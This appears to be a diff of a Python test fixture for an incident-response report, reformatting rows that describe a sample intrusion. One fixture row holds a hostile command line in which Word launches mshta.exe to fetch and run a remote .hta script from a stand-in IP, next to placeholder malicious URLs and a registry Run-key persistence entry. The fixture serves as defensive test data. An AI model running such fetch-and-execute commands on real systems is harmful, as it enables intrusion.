@@ -97,7 +97,8 @@ def dossier(**changes) -> Dossier:
         "as_of": AT + timedelta(days=1),
         "responders": "Watchtower CIRT, cirt@watchtower.example, +1 555 0100",
         "stories": [
-            Story("ta1", "Script host started by a document", "High", "Execution", "ThreatExperts", "New", "Unknown", AT, AT, AT, "A document started mshta.exe.",  # noqa: E501 - a row of a table
+            Story("ta1", "Script host started by a document", "High", "Execution", "ThreatExperts", "New", "Unknown", AT, AT, AT,
+                  "A document started mshta.exe.",
                   "At 22:14 winword.exe started mshta.exe.", ["Isolate ws01 from the network."], ["T1218.005", "T1566"]),
         ],
         "timeline": [
@@ -108,9 +109,14 @@ def dossier(**changes) -> Dossier:
         "devices": [Device("d1", "ws01.aurora.example", "Windows11", "Unknown", ("ta1",)), Device("d2", "srv01", "Linux")],
         "accounts": [Account("mina", "AURORA", "S-1-5-21-1", "mina@aurora.example", "", "Unknown", ("ta1",))],
         "files": [FILE],
-        "processes": [Process(FILE, 4711, r"mshta.exe 'http://203.0.113.9/x.hta' \n", AT, "winword.exe", 4000, r"AURORA\mina", "Suspicious", ("ta1",))],  # noqa: E501 - a row of a table
-        "addresses": [Value("203.0.113.9", "Malicious", ("ta1",)), Value("2001:db8::1", "Suspicious"), Value("not an address", "Malicious")],  # noqa: E501 - a row of a table
-        "urls": [Value("http://203.0.113.9/x.hta?a='b'", "Suspicious", ("ta1",)), Value("evil.example", "Malicious"), Value("evil.example/path", "Unknown")],  # noqa: E501 - a row of a table
+        "processes": [
+            Process(FILE, 4711, r"mshta.exe 'http://203.0.113.9/x.hta' \n", AT, "winword.exe", 4000,
+                    r"AURORA\mina", "Suspicious", ("ta1",)),
+        ],
+        "addresses": [Value("203.0.113.9", "Malicious", ("ta1",)), Value("2001:db8::1", "Suspicious"),
+                      Value("not an address", "Malicious")],
+        "urls": [Value("http://203.0.113.9/x.hta?a='b'", "Suspicious", ("ta1",)), Value("evil.example", "Malicious"),
+                 Value("evil.example/path", "Unknown")],
         "registry": [Registry(r"HKLM\Software\Run", "x", "String", "mshta", "ws01", "Suspicious", ("ta1",))],
         "evidence": [evidence()],
         "messages": [Message(AT, "mina@aurora.example", "Is it contained?", "ta1")],
